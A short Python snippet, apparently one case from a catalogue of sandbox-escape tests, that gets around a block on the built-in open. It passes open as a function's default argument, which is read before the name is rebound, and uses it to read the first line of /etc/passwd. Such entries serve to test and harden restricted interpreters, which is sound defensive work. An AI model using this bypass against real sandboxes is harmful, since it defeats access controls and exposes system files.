# class: built-ins
# mechanism: denied built-in as a value
# how: the default (or decorator, base, annotation) of a def or class is read before the name is bound: def open(x=open)
# reaches: built-in open
def open(x=open):
    return x
print(open()("/etc/passwd").readline())
